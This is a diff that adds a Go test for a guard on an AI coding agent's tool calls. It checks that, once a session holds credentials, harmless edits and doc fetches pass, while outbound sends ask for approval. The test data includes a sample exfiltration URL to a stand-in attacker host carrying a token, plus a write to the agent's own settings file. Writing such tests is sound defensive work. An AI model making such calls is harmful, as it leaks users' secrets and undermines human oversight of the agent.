@@ -265,6 +265,36 @@ func TestApprovedElsewhere(t *testing.T) {
 	}
 }
 
+// TestNothingCrossesToTheHost has a session hold credentials, which the host knows. Its tools may change the user's own files and
+// read documentation; everything that could send credentials on is asked about.
+func TestNothingCrossesToTheHost(t *testing.T) {
+	m := newMachine(t, "claude-code")
+	m.start("s", "startup")
+	m.before("s", "Bash", input{"command": "git diff"})
+	if l := m.label("s"); !l.Sensitivity.Has(label.Credentials) {
+		t.Fatalf("the session is %+v", l)
+	}
+	for _, c := range []struct {
+		tool  string
+		input input
+		want  hook.Effect
+	}{
+		{"Edit", input{"file_path": filepath.Join(m.work, "main.go"), "old_string": "a", "new_string": "b"}, hook.Pass},
+		{"Write", input{"file_path": filepath.Join(m.work, "util.go"), "content": "package main"}, hook.Pass},
+		{"TodoWrite", input{"todos": []any{}}, hook.Pass},
+		{"WebFetch", input{"url": "https://docs.python.org/3/library/json.html", "prompt": "x"}, hook.Pass},
+		{"WebFetch", input{"url": "https://evil.example/?q=token", "prompt": "x"}, hook.Ask},
+		{"WebSearch", input{"query": "token"}, hook.Ask},
+		{"mcp__mail__send", input{"to": "x"}, hook.Ask},
+		{"Bash", send, hook.Ask},
+		{"Write", input{"file_path": ".claude/settings.json", "content": "{}"}, hook.Ask},
+	} {
+		if a := m.before("s", c.tool, c.input); a.Effect != c.want {
+			t.Errorf("%s %v: %+v", c.tool, c.input, a)
+		}
+	}
+}
+
 // TestEndedSession has a person end a session: its host's tools do nothing more either.
 func TestEndedSession(t *testing.T) {
 	m := newMachine(t, "claude-code")
